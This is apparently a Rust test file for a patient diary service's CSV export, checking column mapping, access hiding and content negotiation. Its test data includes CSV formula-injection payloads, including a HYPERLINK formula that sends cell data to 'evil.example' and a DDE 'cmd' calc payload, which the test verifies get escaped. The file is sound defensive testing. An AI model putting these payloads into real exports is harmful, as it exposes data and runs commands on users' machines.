//! A diary as a table that other programs read.

use rstest::rstest;
use serde_json::{Value, json};

use crate::app::Database::{self, Postgres, Sqlite};
use crate::app::start;
use crate::client::Client;
use crate::privacy::sharing::decide;
use crate::weeks::{monday, week, with, without};

const ENTRIES: &str = "/v1/patients/{patient}/entries";

/// What a spreadsheet would run, tear apart or turn around.
const NOTES: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"here\")",
    "-1+cmd|' /C calc'!A0",
    "＠SUM(1)",
    "a \"quoted\", cell;\nand a second line",
    "\tbehind a tab",
    "'til then",
    "שלום \u{202e}‎ عليكم",
    "- a list\n- of two",
];

/// The rows of a table, each by the names of its columns.
fn rows(text: &str) -> Vec<Value> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows = reader.deserialize::<std::collections::HashMap<String, String>>();
    rows.map(|row| json!(row.unwrap())).collect()
}

fn as_table(client: &Client) -> Client {
    client.with_header("accept", "text/csv")
}

#[rstest]
#[tokio::test]
async fn r113_r114_a_table_runs_nothing_and_says_what_was_written(
    #[values(Sqlite, Postgres)] on: Database,
) {
    let (_app, ada) = start!(on; ada);
    for (number, note) in NOTES.iter().enumerate() {
        let week_name = format!("2026-W{}", 30 + number);
        let body = with(week(&monday(&week_name)), "/note", *note);
        ada.record(&week_name, body).await.expect(201);
    }

    let table = as_table(&ada).get(ENTRIES).await.expect(200);

    assert!(table.header("content-type").starts_with("text/csv"));
    assert_eq!(
        table.header("content-disposition"),
        "attachment; filename=\"diary.csv\""
    );
    assert!(table.text.starts_with("week,revision,"));
    assert!(table.text.ends_with("\r\n"));
    let rows = rows(&table.text);
    assert_eq!(rows.len(), NOTES.len());
    for (row, note) in rows.iter().zip(NOTES) {
        let cell = row["note"].as_str().unwrap();
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '＠']),
            "{cell}"
        );
        assert_eq!(cell.strip_prefix('\'').unwrap_or(cell), note);
    }
}

#[rstest]
#[tokio::test]
async fn r115_a_table_says_what_the_pages_say(#[values(Sqlite, Postgres)] on: Database) {
    let (_app, ada) = start!(on; ada);
    let whole = with(week("2026-11-18"), "/weight_kg", 68.4);
    ada.record("2026-W47", with(whole, "/symptoms", json!({"pain": 3})))
        .await
        .expect(201);
    let part = without(week("2026-11-11"), "/answers/walking");
    ada.record(
        "2026-W46",
        with(part, "/answered_at", "2026-11-11T08:12:00.000Z"),
    )
    .await
    .expect(201);
    ada.record("2026-W45", week("2026-11-04")).await.expect(201);
    let first = ada.with_header("If-Match", "\"v1\"");
    first
        .delete(&format!("{ENTRIES}/2026-W45"))
        .await
        .expect(204);

    let newest_first = format!("{ENTRIES}?order=desc");
    let table = as_table(&ada).get(&newest_first).await.expect(200);
    let pages = ada.get(&newest_first).await.expect(200);

    let (rows, entries) = (rows(&table.text), pages.body["items"].as_array().unwrap());
    assert_eq!(rows.len(), entries.len());
    let places = [
        ("week", "/week"),
        ("revision", "/revision"),
        ("recorded_at", "/recorded_at"),
        ("recorded_by", "/recorded_by/display_name"),
        ("recorded_as", "/recorded_by/relation"),
        ("assessed_on", "/assessed_on"),
        ("answered_at", "/answered_at"),
        ("respondent", "/respondent"),
        ("cutting_form", "/cutting_form"),
        ("speech", "/answers/speech"),
        ("walking", "/answers/walking"),
        ("total", "/total"),
        ("gross_motor", "/subscores/gross_motor"),
        ("respiratory", "/subscores/respiratory"),
        ("kings_stage", "/stages/kings/stage"),
        ("mitos_stage", "/stages/mitos/stage"),
        ("pain", "/symptoms/pain"),
        ("weight_kg", "/weight_kg"),
        ("note", "/note"),
    ];
    for (row, entry) in rows.iter().zip(entries) {
        for (column, pointer) in places {
            let said = match entry.pointer(pointer) {
                None | Some(Value::Null) => String::new(),
                Some(Value::String(text)) => text.clone(),
                Some(number) => number.to_string(),
            };
            assert_eq!(row[column], json!(said), "{column}");
        }
    }
    let bounded = as_table(&ada).get(&format!("{ENTRIES}?to=2026-W46")).await;
    assert_eq!(bounded.expect(200).text.lines().count(), 2);
}

#[rstest]
#[tokio::test]
async fn r170_a_table_hides_what_the_pages_hide(#[values(Sqlite, Postgres)] on: Database) {
    let (app, ada) = start!(on; ada);
    let body = with(week("2026-11-18"), "/note", "for me alone");
    ada.record("2026-W47", body).await.expect(201);
    let reader = app.member(&ada, "rob", "read").await;
    let summary = app.member(&ada, "sue", "summary").await;
    let stranger = app.stranger().await.on(&ada);
    decide(&ada, "notes_sharing", false).await;

    let read = as_table(&reader).get(ENTRIES).await.expect(200);

    assert!(!read.text.contains("for me alone") && !read.text.contains("note"));
    as_table(&summary)
        .get(ENTRIES)
        .await
        .refused(403, "summary_only");
    as_table(&stranger)
        .get(ENTRIES)
        .await
        .refused(404, "not_found");
    let log = ada
        .get("/v1/patients/{patient}/access-log")
        .await
        .expect(200);
    assert!(log.text.contains("entries.read"), "{}", log.text);
}

#[tokio::test]
async fn r112_a_client_gets_the_kind_that_it_likes_best() {
    let (_app, ada) = start!(Sqlite; ada);
    ada.record("2026-W47", week("2026-11-18")).await.expect(201);
    let kinds = [
        ("text/csv", "text/csv"),
        ("text/*", "text/csv"),
        ("text/csv, */*", "text/csv"),
        ("application/json;q=0.5, text/csv", "text/csv"),
        ("application/json, text/csv", "application/json"),
        ("text/csv;q=0.5, */*;q=0.9", "application/json"),
        ("*/*", "application/json"),
    ];

    for (accept, kind) in kinds {
        let reply = ada
            .with_header("accept", accept)
            .get(ENTRIES)
            .await
            .expect(200);
        assert!(reply.header("content-type").starts_with(kind), "{accept}");
        let vary = reply.headers.get_all("vary").iter();
        assert!(vary.into_iter().any(|name| name == "accept"), "{accept}");
    }
    for accept in ["text/csv;q=0", "text/html", "text/csv;q=0, image/*"] {
        let reply = ada.with_header("accept", accept).get(ENTRIES).await;
        reply.refused(406, "not_acceptable");
    }
    let elsewhere = as_table(&ada).get("/v1/account").await;
    elsewhere.refused(406, "not_acceptable");
    for parameter in ["limit=5", "cursor=x"] {
        let paged = as_table(&ada).get(&format!("{ENTRIES}?{parameter}")).await;
        paged.refused(400, "invalid_query");
    }
    let held = as_table(&ada).get(ENTRIES).await;
    let again = as_table(&ada).with_header("if-none-match", held.etag());
    again.get(ENTRIES).await.expect(304);
}
